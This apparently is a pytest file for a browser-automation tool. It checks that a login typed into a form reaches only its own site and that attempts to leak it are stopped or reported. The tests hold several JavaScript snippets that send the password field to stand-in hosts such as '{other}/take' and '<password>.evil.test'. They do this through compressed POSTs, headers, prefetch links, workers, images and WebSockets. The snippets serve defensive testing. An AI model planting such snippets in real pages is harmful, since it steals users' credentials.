"""The login on the wire: it reaches its own site, and no request carries it anywhere else."""

from __future__ import annotations

import asyncio

import pytest

from explorer.request.account import Account
from explorer.request.credential import Login
from explorer.request.reach import reach_of
from explorer.request.scope import scope_of
from explorer.surfaces.surface import CREDENTIALS, Acted
from explorer.surfaces.web.surface import WebSurface
from flows.record import Record
from flows.step import Action, ActionKind
from tests.explorer.surfaces.web_world import World, named, tap

pytestmark = pytest.mark.asyncio(loop_scope="module")
ACCOUNT = Account(Login.of("annabel", "right-horse"), scope_of("https://site.test/"))
FORM = "<form id=f method=post action=/in><label>User <input name=u></label><label>Password <input type=password name=p></label><button>Go</button></form>"


async def typed(surface: WebSurface) -> list[Acted]:
    done = []
    for name, part in (("User", "user"), ("Password", "password")):
        field = named(await surface.observe(), name)
        done.append(await surface.act(Action(ActionKind.TYPE, field.ref, text="placeholder", credential=part)))
    return done


async def sent(surface: WebSurface) -> list[Record]:
    await surface.act(tap(named(await surface.observe(), "Go")))
    await surface.settle(10)
    return [r for r in surface.drain() if r.source == CREDENTIALS]


async def test_at_home_it_is_typed_and_sent_and_its_answer_is_told(world: World) -> None:
    world.pages["/in"] = "<h1>In</h1>"
    async with world.surface(FORM, account=ACCOUNT) as surface:
        assert [a.problem for a in await typed(surface)] == ["", ""]
        told = await sent(surface)
        assert [(r.kind, r.data["to"]) for r in told] == [("answered", world.origin("good"))]
        texts = [t.text for t in (await surface.observe()).texts]
        assert "In" in texts and any("p=right-horse" in t for t in texts), "the page got what was typed"


async def test_what_stays_in_the_browser_is_no_leak(world: World) -> None:
    world.pages["/in"] = "<h1>In</h1>"
    script = "<script>f.onsubmit=()=>{fetch('data:text/plain,'+f.p.value)}</script>"
    async with world.surface(FORM + script, account=ACCOUNT) as surface:
        await typed(surface)
        assert [r.kind for r in await sent(surface)] == ["answered"]


SCRIPTS = {
    "compressed": (
        "new Response(new Blob([x]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()"
        ".then(b=>fetch('{other}/take',{method:'POST',mode:'no-cors',body:b}))"
    ),
    "header": "fetch('{other}/take',{headers:{Accept:btoa('annabel:'+x)}})",
    "method": "fetch('{other}/take',{method:x})",
    "name of a header": "fetch('{other}/take',{headers:{[x]:'1'}})",
    "window": "window.open('').location='{other}/take?p='+x",
    "worker": "new Worker('/send.js').postMessage(x)",
    "fetched ahead": "{const l=document.createElement('link');l.rel='prefetch';l.href='{other}/take?p='+encodeURIComponent(x);document.head.append(l)}",
    "user name alone": "fetch('{other}/take?who='+f.u.value,{mode:'no-cors'})",
}


@pytest.mark.parametrize("script", SCRIPTS)
async def test_what_a_script_makes_of_it_is_stopped(world: World, script: str) -> None:
    world.pages["/in"] = "<h1>In</h1>"
    world.pages["/send.js"] = "onmessage=e=>fetch('{other}/take',{method:'POST',mode:'no-cors',body:e.data})"
    world.asked.clear()
    body = f"{FORM}<script>f.onsubmit=e=>{{e.preventDefault();const x=f.p.value;{SCRIPTS[script]}}}</script>"
    async with world.surface(body, account=ACCOUNT) as surface:
        await typed(surface)
        told = await sent(surface)
        async with asyncio.timeout(20):
            while not told:
                surface.tab.watch.stir.clear()
                await surface.tab.watch.stir.wait()
                told = [r for r in surface.drain() if r.source == CREDENTIALS]
        assert [(r.kind, r.data["to"], r.data["how"]) for r in told if r.kind == "stopped"][:1] == [
            ("stopped", world.origin("other"), "document" if script == "window" else "script")
        ]
        assert "/take" not in world.asked


async def test_a_host_that_few_parsers_know_gets_nothing_either(world: World) -> None:
    leak = "f.onsubmit=e=>{e.preventDefault();new Image().src='https://a!b.other.test/take?p='+f.p.value}"
    async with world.surface(f"{FORM}<script>{leak}</script>", account=ACCOUNT) as surface:
        await typed(surface)
        told = await sent(surface)
        assert [(r.kind, r.data["to"]) for r in told] == [("stopped", "https://a!b.other.test/take")]


@pytest.mark.parametrize("what", ["f.p.value", "new TextEncoder().encode(f.p.value)"], ids=["text", "binary"])
async def test_a_socket_cannot_be_stopped_and_is_told(world: World, what: str) -> None:
    body = f"{FORM}<script>const s=new WebSocket('{{ws-other}}/ws');f.onsubmit=e=>{{e.preventDefault();s.send({what});document.title='sent'}}</script>"
    async with world.surface(body, account=ACCOUNT) as surface:
        await typed(surface)
        told = await sent(surface)
        assert [(r.kind, r.data["how"]) for r in told] == [("leaked", "socket")]


async def test_the_protocol_that_a_socket_asks_for_is_told_too(world: World) -> None:
    open_ = "f.onsubmit=e=>{e.preventDefault();new WebSocket('{ws-other}/ws',[f.p.value]);document.title='sent'}"
    async with world.surface(f"{FORM}<script>{open_}</script>", account=ACCOUNT) as surface:
        await typed(surface)
        told = await sent(surface)
        assert [(r.kind, r.data["how"]) for r in told] == [("leaked", "socket")]


async def test_a_name_that_spells_the_password_is_not_even_looked_up(world: World) -> None:
    looked_up: list[str] = []

    async def look(host: str, port: int, *, page: bool) -> tuple[str, ...] | None:
        looked_up.append(host)
        return ("93.184.216.34",)

    reach = reach_of(world.origin("good"), world.resolve)
    leave = "f.onsubmit=e=>{e.preventDefault();location='https://'+f.p.value+'.evil.test/'}"
    async with world.surface(f"{FORM}<script>{leave}</script>", account=ACCOUNT, reach=reach) as surface:
        surface.tab.watch.border.lookup = look  # type: ignore[union-attr]
        await typed(surface)
        told = await sent(surface)
        assert [(r.kind, r.data["what"]) for r in told] == [("stopped", "the password")] and looked_up == []


async def test_nothing_is_held_up_before_a_login_is_typed(world: World) -> None:
    async with world.surface(FORM, account=ACCOUNT) as surface:
        assert surface._guard is not None and not surface._guard.armed
        await typed(surface)
        assert surface._guard.armed
